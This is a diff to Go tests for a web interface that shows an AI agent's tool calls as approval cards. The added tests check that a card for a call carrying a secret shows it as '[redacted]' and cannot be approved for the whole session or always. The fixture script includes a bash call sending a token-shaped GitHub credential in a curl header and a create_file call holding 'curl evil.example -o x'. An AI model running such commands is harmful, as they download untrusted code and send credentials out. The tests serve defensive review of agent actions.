@@ -142,12 +142,17 @@ func TestNobodyAnswersWhatTheyDidNotSee(t *testing.T) {
 const odd = `when question
   ask AskUserQuestion {"questions":[{"question":"Which colour?","options":[{"label":"blue"}]}]} => blue
 else
-  ask create_file {"command":"curl evil.example -o x","path":"README.md","content":"hello\nthere","owner":"somebody","branch":"main","force":true,"note":"a\u202eb","labels":["one",{"deep":1}]} => made
+  when hidden
+    ask bash {"command":"curl -H 'Authorization: Bearer ghp_0123456789abcdefghijklmnopqrstuvwxyzAB' example.com"} => got
+  else
+    ask create_file {"command":"curl evil.example -o x","path":"README.md","content":"hello\nthere","owner":"somebody","branch":"main","force":true,"note":"a\u202eb","labels":["one",{"deep":1}]} => made
+  end
 end
 `
 
 // A card has everything that would be done, not only what it knows how to draw;
-// in the list no key and no button answers a question with nothing.
+// what it must hide something of is allowed once only; in the list no key and no
+// button answers a question with nothing.
 func TestACardShowsTheWholeCall(t *testing.T) {
 	t.Parallel()
 	script := filepath.Join(t.TempDir(), "odd.script")
@@ -171,6 +176,18 @@ func TestACardShowsTheWholeCall(t *testing.T) {
 	p.read("medium risk")
 	p.shot("card-fields")
 	p.accessible(axe(t), "a card with fields")
+	if text := p.text("[data-approval]"); !strings.Contains(text, "Always") {
+		t.Errorf("it cannot be allowed for longer: %s", text)
+	}
+	hidden := h.session("Hiding", "hidden", nil)
+	h.until(hidden, "a question", asks)
+	p.walk("/s/" + hidden)
+	p.see(answerable)
+	p.read("[redacted]")
+	p.read("medium risk")
+	if text := p.text("[data-approval]"); strings.Contains(text, "Always") || strings.Contains(text, "For this session") {
+		t.Errorf("what hides something can be allowed for longer: %s", text)
+	}
 	question := h.session("Curious", "question", nil)
 	h.until(question, "a question", asks)
 	p.walk("/")
